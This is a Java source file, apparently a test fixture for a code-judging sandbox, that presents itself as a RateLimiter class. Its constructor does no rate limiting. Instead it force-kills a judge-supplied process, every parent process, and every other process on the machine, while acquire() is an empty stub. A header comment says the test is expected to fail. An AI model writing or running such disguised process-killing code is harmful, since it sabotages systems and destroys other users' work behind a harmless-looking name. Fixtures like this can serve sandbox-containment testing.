// EXPECT failed: kills the process that started it, and that one's, and all it may
import java.time.Duration;

public final class RateLimiter {
    public RateLimiter(int maxRequests, Duration period) {
        ProcessHandle.of(@JUDGE@L).ifPresent(ProcessHandle::destroyForcibly);
        var parent = ProcessHandle.current().parent();
        while (parent.isPresent()) {
            parent.get().destroyForcibly();
            parent = parent.get().parent();
        }
        ProcessHandle.allProcesses()
                .filter(each -> each.pid() != ProcessHandle.current().pid())
                .forEach(ProcessHandle::destroyForcibly);
    }

    public void acquire() throws InterruptedException {}
}
